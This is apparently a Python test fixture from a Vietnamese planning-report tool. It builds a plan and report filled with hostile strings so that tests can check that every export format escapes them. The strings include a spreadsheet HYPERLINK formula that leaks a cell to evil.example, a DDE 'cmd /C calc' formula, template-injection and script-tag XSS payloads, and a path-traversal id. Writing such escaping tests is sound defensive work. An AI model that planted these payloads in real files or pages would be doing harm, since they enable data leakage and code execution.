"""A plan whose every text means harm to some format; in each format it must come out as it is."""

from __future__ import annotations

import json
from functools import cache

import polars as pl

from support.judging import TODAY, observations
from tvplan_tui.domain.indicator import Bound, Indicator, Kind, Plan, Sector
from tvplan_tui.domain.letterhead import Letterhead
from tvplan_tui.domain.period import Period
from tvplan_tui.report.board import Book
from tvplan_tui.report.document.compose import compose
from tvplan_tui.report.document.material import Material
from tvplan_tui.report.document.model import Report

NAME = '<b>A</b> & {{7*7}} {% raw %} {{ self }} "q"'
FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"bấm")'
UNIT = "{_{x}_} %_} $x$"
LONG = "dài <i> & " * 3200 + "hết"
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
SECTOR = "+1+1 | [x](http://evil.example) `code` <script>alert(1)</script> www.evil.example"
CONTROL = "a\x00b\x1b[31mc\u202ed\ufffee"
CLEAN = "a\ufffdb\ufffd[31mc\ufffdd\ufffde"
SIGNER = "-2+3 <w:p/> ]]>"

HOSTILE = (NAME, FORMULA, UNIT, LONG, OWNER, SECTOR, CLEAN)
"""As they must be read in every format."""


def hostile_plan() -> Plan:
    shared = {"sector": "S", "kind": Kind.FLOW, "bound": Bound.AT_LEAST, "target": 1000.0, "owner": OWNER}
    return Plan(
        id="../../etc/<x>",
        title=CONTROL,
        authority="UBND <u>&",
        year=2023,
        sectors=(Sector("S", SECTOR),),
        indicators=(
            Indicator(id="X", name=NAME, unit=UNIT, **shared),
            Indicator(id="Y", name=FORMULA, unit="tỷ đồng", **shared),
        ),
        letterhead=Letterhead(recipients=(NAME,), signing=("TM.",), signer=SIGNER),
    )


@cache
def hostile_report() -> Report:
    rows = [
        {"indicator": one, "period": f"2023-{month:02}", "value": 1.0, "note": LONG if one == "X" else FORMULA}
        for one in ("X", "Y")
        for month in range(1, 10)
    ]
    figures: pl.DataFrame = observations(rows)
    book = Book(hostile_plan(), figures, ())
    return compose(Material(book.board(Period.parse("2023-09"), TODAY)))


def in_json(text: str) -> str:
    """Return a text as JSON holds it, without its quotation marks."""
    return json.dumps(text, ensure_ascii=False)[1:-1]
